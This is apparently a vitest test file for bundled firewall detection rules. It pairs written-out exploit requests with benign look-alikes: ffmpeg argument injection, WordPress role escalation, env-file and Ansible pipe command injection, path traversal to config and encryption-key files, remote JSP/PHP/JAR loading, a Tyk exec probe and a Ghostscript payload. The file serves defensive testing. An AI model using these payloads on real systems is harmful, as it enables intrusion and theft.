/**
 * Bundled rules of revs 2026-12-11p and 2026-12-11q (issue 18, session 30): shapes held-out sets 19–23's misses showed (read), each written
 * for the mechanism rather than the product and kept only with no benign hit. Each fires on its attack, sent the way such
 * an exploit sends it, and stays quiet on the benign request closest to it: a codec list, a role editor's capabilities, a
 * search for an option's text, an .env example in a note, another Ansible lookup, a WebDAV move inside the user's tree, a
 * report saved as CSV, a UDF from the cluster's own storage, a gateway script that only logs, a
 * photo imported by URL, one step up to an image, a designer's EPS, a connection URL with ordinary options.
 */
import { describe } from 'vitest';
import type { RequestSpec } from './fixtures.js';
import { BROWSER, type RuleCase, testPrefilterEntries, testRuleCases, useBundledRuleSet, get, multipart, postForm, postJson } from './bundled-requests.js';

const { hits, rules } = useBundledRuleSet();

const move = (destination: string): RequestSpec => ({ method: 'MOVE', url: '/remote.php/dav/files/ann/upload.txt', headers: [...BROWSER, ['Destination', destination], ['Overwrite', 'T']] });
const tykApi = (js: string): RequestSpec =>
  postJson('/tyk/apis', JSON.stringify({ name: 'vep', proxy: { listen_path: '/vep/' }, version_data: { versions: { Default: { extended_paths: { virtual: [{ response_function_name: 'f', function_source_type: 'blob', function_source_uri: Buffer.from(js).toString('base64'), path: '/run' }] } } } } }));

const CASES: RuleCase[] = [
  [9000391, 'block', 'ffmpeg options after a stream codec value', get('/Videos/8a28/stream.ts?static=false&videoCodec=h264%20-i%20https://203.0.113.9/a.txt%20-c%20copy%20-y%20/usr/share/jellyfin/web/a.js'), get('/Videos/8a28/stream.ts?static=false&videoCodec=h264,hevc&audioCodec=aac&profile=high')],
  [9000391, 'block', 'a filter graph after an audio codec value', get('/Audio/77/stream.mp3?audioCodec=aac+-filter_complex+%5B0%5Dconcat+-y+/tmp/x'), get('/search?q=aac%20-%20ffmpeg%20settings')],
  [9001220, 'block', 'a registration form granting itself the administrator role', postForm('/register/', 'user_login-12=bob&user_email-12=bob%40example.org&wp_capabilities[administrator]=1&form_id=12'), postForm('/wp-admin/admin.php?page=role-editor', 'role=shop_manager&capabilities[edit_posts]=1&capabilities[manage_woocommerce]=1')],
  [9001220, 'block', 'a prefixed meta key, bracket encoded', postForm('/index.php/register/', 'user_login-3=eve&wp2_capabilities%5Badministrator%5D=1'), postForm('/wp-admin/user-edit.php', 'user_id=4&role=editor&nickname=bob')],
  [9001221, 'block', 'a query that opens with --env=', get('/admin?--env=local&page=2'), get('/search?q=--env%3Dlocal&page=2')],
  [9001221, 'block', 'a query that opens with a Craft config path', get('/?--configPath=ftp://203.0.113.9:21/'), get('/docs/cli?option=--configPath')],
  [9001222, 'block', 'a settings value with an env assignment on its next line', postJson('/api/system/update-env', '{"VectorDB":"lancedb\\nJWT_SECRET=abc123"}'), postJson('/api/notes', '{"text":"Set it like this:\\nAPI_KEY=abc"}')],
  [9001222, 'block', 'the line break and the = \\u-escaped (rev 2: read with the escapes resolved)', postJson('/api/system/update-env', '{"VectorDB":"lancedb\\u000aJWT\\u005fSECRET\\u003dabc123"}'), postJson('/api/notes', '{"text":"Set it like this\\u003a\\u000aAPI\\u005fKEY\\u003dabc"}')],
  [9001222, 'block', 'a D-Link form posted as \\u-escaped JSON', postJson('/getcfg.php', '{"SERVICES":"DEVICE\\u002eACCOUNT\\u000aAUTHORIZED\\u005fGROUP\\u003d1"}'), postJson('/api/settings', '{"env":"NODE\\u005fENV\\u003dproduction\\u000aPORT\\u003d8080"}')],
  [9001222, 'block', 'a CRLF before the assignment', postJson('/api/settings', '{"OpenAiKey":"sk-x\\r\\nAUTH_TOKEN=1"}'), postJson('/api/settings', '{"env":"NODE_ENV=production\\nPORT=8080"}')],
  [9000720, 'block', 'an ad-hoc job argument with a pipe lookup', postJson('/api/v1/ops/jobs/', '{"module":"shell","args":"{{ lookup(\'pipe\', \'id\') }}"}'), postJson('/api/v1/ops/jobs/', '{"module":"debug","args":"msg={{ lookup(\'env\', \'HOME\') }}"}')],
  [9000720, 'block', 'the fully qualified plugin through query()', postJson('/api/v2/job_templates/7/launch/', '{"extra_vars":"x: \\"{{ query(\\u0027ansible.builtin.pipe\\u0027, \\u0027uname -a\\u0027) | join }}\\""}'), postJson('/api/v2/job_templates/7/launch/', '{"extra_vars":"x: \\"{{ query(\\u0027inventory_hostnames\\u0027, \\u0027all\\u0027) }}\\""}')],
  [9000420, 'block', 'a WebDAV move whose destination climbs out of the user\'s tree', move('https://shop.example.com/remote.php/dav/files/ann/%2e%2e/%2e%2e/%2e%2e/config/config.php'), move('https://shop.example.com/remote.php/dav/files/ann/Old..Notes/upload.txt')],
  [9000420, 'block', 'raw dot-dot segments in the destination', move('/remote.php/dav/files/ann/../../data/.htaccess'), move('/remote.php/dav/files/ann/Archive/2024/upload.txt')],
  [9001398, 'block', 'a data file saved as a JSP under a web app', postForm('/webtools/control/forgotPassword/viewdatafile', 'DATAFILE_LOCATION=http%3A%2F%2Fdl.example.net%2Fa.dat&DATAFILE_SAVE=.%2Fthemes%2Fcommon-theme%2Fwebapp%2Fcommon%2Fx.jsp&DATAFILE_IS_URL=true'), postForm('/webtools/control/viewdatafile', 'DATAFILE_LOCATION=%2Fimports%2Fa.dat&DATAFILE_SAVE=.%2Fexports%2Freport.csv&DATAFILE_IS_URL=false')],
  [9001398, 'block', 'a JSON save location ending in .php', postJson('/api/export', '{"format":"csv","save_location":"/var/www/html/uploads/x.php"}'), postJson('/api/export', '{"format":"csv","save_location":"/var/exports/orders.csv"}')],
  [9000123, 'block', 'a UDF registered from a jar on a remote host', postJson('/rest/v2/nonQuery', '{"sql":"CREATE FUNCTION avg2 AS \'com.x.Evil\' USING URI \'http://dl.example.net/a.jar\'"}'), postJson('/rest/v2/nonQuery', '{"sql":"CREATE FUNCTION avg2 AS \'org.example.udf.Avg\' USING URI \'hdfs:///udf/avg2.jar\'"}')],
  [9000123, 'block', 'ADD JAR from a remote URL in a notebook query', postForm('/notebook/api/execute/hive', 'statement=ADD+JAR+%27https%3A%2F%2F198.51.100.7%2Fx.jar%27%3B'), postForm('/notebook/api/execute/hive', 'statement=ADD+JAR+%2Fopt%2Fhive%2Flib%2Fudf.jar%3B')],
  [9001397, 'block', 'a gateway virtual endpoint whose base64 source runs a probe', tykApi('function f(request, session, config) { var o = exec("whoami"); return TykJsResponse({Body: o, Code: 200}, session.meta_data) }'), tykApi('function f(request, session, config) { log("whoami called"); return TykJsResponse({Body: "ok", Code: 200}, session.meta_data) }')],
  [9000568, 'block', 'a remote import of a PHP file by URL', postForm('/index.php/ccm/system/file/import_remote', 'url_upload_1=https%3A%2F%2Fstatic10.example.net%2F56fgoj.php&url_upload_2=&ocID=11'), postForm('/index.php/ccm/system/file/import_remote', 'url_upload_1=https%3A%2F%2Fstatic10.example.net%2Fphotos%2Fbeach.jpg&url_upload_2=&ocID=11')],
  [9000568, 'block', 'the host\'s port colon percent-encoded too (rev 2)', postForm('/index.php/ccm/system/file/import_remote', 'url_upload_1=http%3A%2F%2Fdl.example.net%3A8080%2Fx.php&url_upload_2=&ocID=8'), postForm('/index.php/ccm/system/file/import_remote', 'url_upload_1=http%3A%2F%2Fdl.example.net%3A8080%2Fphotos%2Fbeach.jpg&url_upload_2=&ocID=8')],
  [9000568, 'block', 'an import URL of a script disguised by an image suffix', postJson('/api/media/import', '{"remote_url":"http://dl.example.net/s.phtml?.png"}'), postJson('/api/feeds/import', '{"import_url":"https://blog.example.org/feed.php?format=rss"}')],
  [9000429, 'block', 'a service pack path two levels up', postForm('/commandcenter/deployWebpackage.do', 'commserver=node.example.net&servicePack=..%2F..%2FReports%2FMetricsUpload%2Fx%2F&version=Version11'), postForm('/cms/page', 'title=About&image=..%2Fimages%2Fteam.png')],
  [9000429, 'block', 'a JSON file name two levels up to a dot directory', postJson('/api/v1/openai-assistants-file/download', '{"chatflowId":"1","fileName":"../../.flowise/encryption.key"}'), postJson('/api/v1/openai-assistants-file/download', '{"chatflowId":"1","fileName":"report..final.pdf"}')],
  [9000392, 'block', 'an uploaded PostScript setting the uniprint device and an output file', multipart('upload', '%!PS-Adobe-3.0\nmark /OutputFile (/tmp/x) /OutputDevice /uniprint /upYMoveCommand (%x%hn) .dicttomark setpagedevice\nshowpage'), multipart('upload', '%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 100 100\nnewpath 0 0 moveto 100 100 lineto stroke\nshowpage')],
  [9001091, 'block', 'a connection test to a MariaDB server with local_infile on', postJson('/api/v1/database/test_connection/', '{"sqlalchemy_uri":"mariadb://superset:x@db.example.net:3306/db?charset=utf8&local_infile=1"}'), postJson('/api/v1/database/test_connection/', '{"sqlalchemy_uri":"mysql+pymysql://superset:x@db.example.net:3306/db?charset=utf8mb4&ssl=true"}')],

];

describe('bundled rules from held-out sets 19-23\'s misses (revs 2026-12-11p, 2026-12-11q)', () => {
  testRuleCases(CASES, hits);
  testPrefilterEntries(CASES.map(([sid]) => sid), rules);
});
